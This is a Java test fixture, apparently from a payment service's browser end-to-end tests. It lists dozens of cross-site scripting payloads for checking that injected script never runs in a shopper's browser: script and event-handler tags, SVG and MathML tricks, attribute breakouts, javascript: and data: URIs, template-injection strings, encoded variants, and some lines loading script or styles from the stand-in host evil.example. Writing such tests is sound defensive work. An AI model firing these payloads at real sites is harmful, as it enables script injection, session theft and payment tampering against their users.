package dev.seqrpay.e2e.browser;

import java.util.List;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** What somebody writes who wants a script of theirs to run in a shopper's browser. Each would call {@code ran()}. */
final class Payloads {
    private static final List<String> MARKUP = List.of(
            "<script>ran()</script>",
            "<script src=//evil.example/x.js></script>",
            "<script src=data:text/javascript,ran()></script>",
            "<script type=module>ran()</script>",
            "<scr<script>ipt>ran()</scr</script>ipt>",
            "</script><script>ran()</script>",
            "</title><script>ran()</script>",
            "</textarea><script>ran()</script>",
            "</style><script>ran()</script>",
            "</noscript><script>ran()</script>",
            "--><script>ran()</script><!--",
            "]]><script>ran()</script>",
            "<img src=x onerror=ran()>",
            "<img src=x onerror=\"ran()\"",
            "<img/src=x/onerror=ran()>",
            "<img srcset=x onerror=ran()>",
            "<IMG SRC=x OnErRoR=ran()>",
            "<image src=x onerror=ran()>",
            "<svg onload=ran()>",
            "<svg/onload=ran()>",
            "<svg><script>ran()</script></svg>",
            "<svg><animate onbegin=ran() attributeName=x dur=1s>",
            "<svg><set onbegin=ran() attributeName=x>",
            "<svg><a xlink:href=javascript:ran()><text y=20>x</text></a></svg>",
            "<svg><use href=data:image/svg+xml,x#x></svg>",
            "<svg><foreignObject><iframe srcdoc='<script>parent.ran()</script>'></iframe></foreignObject></svg>",
            "<math><mi xlink:href=javascript:ran()>x</mi></math>",
            "<math><mtext><table><mglyph><style><img src=x onerror=ran()>",
            "<iframe src=javascript:ran()></iframe>",
            "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
            "<object data=javascript:ran()></object>",
            "<object data=data:text/html,<script>ran()</script>></object>",
            "<embed src=javascript:ran()>",
            "<video src=x onerror=ran()></video>",
            "<video><source onerror=ran()></video>",
            "<audio src=x onerror=ran()></audio>",
            "<body onload=ran()>",
            "<details open ontoggle=ran()><summary>x</summary></details>",
            "<input autofocus onfocus=ran()>",
            "<select autofocus onfocus=ran()></select>",
            "<textarea autofocus onfocus=ran()></textarea>",
            "<button popovertarget=x onclick=ran()>x</button>",
            "<div popover id=x onbeforetoggle=ran()>x</div>",
            "<marquee onstart=ran()>x</marquee>",
            "<style>@import '//evil.example/x.css';</style>",
            "<style>*{animation:x 1s}@keyframes x{}</style><b onanimationstart=ran()>x</b>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<link rel=import href=//evil.example/x.html>",
            "<link rel=prefetch href=//evil.example/x>",
            "<meta http-equiv=refresh content='0;url=javascript:ran()'>",
            "<meta http-equiv=refresh content='0;url=//evil.example/'>",
            "<base href=//evil.example/>",
            "<form action=javascript:ran()><input type=submit autofocus></form>",
            "<a href=javascript:ran()>x</a>",
            "<a href=\"java\tscript:ran()\">x</a>",
            "<template shadowrootmode=open><script>ran()</script></template>",
            "<seqr-payment view=//evil.example/pay/a/b></seqr-payment>",
            "<frameset onload=ran()>",
            "<noscript><p title=\"</noscript><img src=x onerror=ran()>\">");

    private static final List<String> OUT_OF_ATTRIBUTES = List.of(
            "\" onmouseover=ran() autofocus onfocus=ran() x=\"",
            "' onmouseover=ran() autofocus onfocus=ran() x='",
            "\"><script>ran()</script>",
            "'><script>ran()</script>",
            "` onerror=ran() x=`",
            "x\" style=\"background:url(//evil.example/x)");

    private static final List<String> CODE = List.of(
            "javascript:ran()",
            "JaVaScRiPt:ran()",
            "data:text/html,<script>ran()</script>",
            "vbscript:ran()",
            "';ran();//",
            "\";ran();//",
            "\\\";ran();//",
            "${ran()}",
            "`${ran()}`",
            "{{constructor.constructor('ran()')()}}",
            "#{ran()}",
            "<%= ran() %>",
            "__proto__",
            "constructor",
            "\u2028ran()\u2029",
            "\uFF1Cscript\uFF1Eran()\uFF1C/script\uFF1E",
            "\u202E<script>ran()</script>",
            "&lt;script&gt;ran()&lt;/script&gt;",
            "&#60;script&#62;ran()&#60;/script&#62;",
            "%3Cscript%3Eran()%3C/script%3E",
            "\\u003cscript\\u003eran()\\u003c/script\\u003e",
            "+ADw-script+AD4-ran()+ADw-/script+AD4-");

    private Payloads() {}

    static List<String> all() {
        return Stream.of(MARKUP, OUT_OF_ATTRIBUTES, CODE).flatMap(List::stream).toList();
    }

    /** What the API takes: what controls the terminal or the direction of writing is refused. */
    static boolean isAcceptable(String words) {
        return words.matches("[^\\p{C}\\p{Zl}\\p{Zp}]*");
    }

    /** @return every so-manieth, from that one on */
    static List<String> share(int one, int of) {
        List<String> all = all();
        return IntStream.range(0, all.size())
                .filter(i -> i % of == one)
                .mapToObj(all::get)
                .toList();
    }
}
